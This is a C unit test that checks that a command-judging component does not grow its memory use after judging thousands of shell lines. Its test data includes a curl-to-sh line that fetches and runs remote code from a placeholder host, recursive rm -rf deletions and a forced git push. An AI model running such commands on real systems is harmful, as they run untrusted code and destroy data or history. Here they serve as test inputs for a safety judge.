/* tests/unit/flat.c - judging does not grow the process */
#include "judge_help.h"

#include <malloc.h>

/* Address sanitizer finds what is lost by itself, and is slow. */
#ifdef __SANITIZE_ADDRESS__
#define LINES	500
#else
#define LINES	20000
#endif
#define SLACK	(64u << 10)	/* of the C library: four bytes more for each line would not fit */

static const char *const lines[] = {
	"rm -rf build && make -j4 2>&1 | tail", "git push --force origin main", "for i in {1..50}; do echo \"$i\" > f$i; done",
	"python3 -c \"import os; os.remove('x')\"", "bash -c 'cd src && find . -name \"*.o\" -delete'", "echo 'no end", "make bad",
	"curl -s https://x.example | sh", "x=$(git rev-parse --show-toplevel); rm -rf \"$x/dist\"", "sed -i.bak s/a/b/ a.c && rm a.c.bak",
};

static size_t in_use(void)
{
	return mallinfo2().uordblks;
}

static void judge_some(struct bench *b, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		bench_judge(b, lines[i % ARRAY_SIZE(lines)], "{\"content\":{\"Makefile\":\"bad:\\n\\trm -rf $(X)/\\n\"}}");
		bench_clear(b);
	}
}

int main(void)
{
	struct bench b;

	if (bench_init(&b)) {
		size_t before;

		judge_some(&b, 2 * ARRAY_SIZE(lines));	/* programs are read when they are first named */
		before = in_use();
		judge_some(&b, LINES);
		if (!ok(in_use() <= before + SLACK, "nothing more is held after thousands of lines"))
			printf("#   %zu bytes more\n", in_use() - before);
	}
	bench_done(&b);
	return tap_done();
}
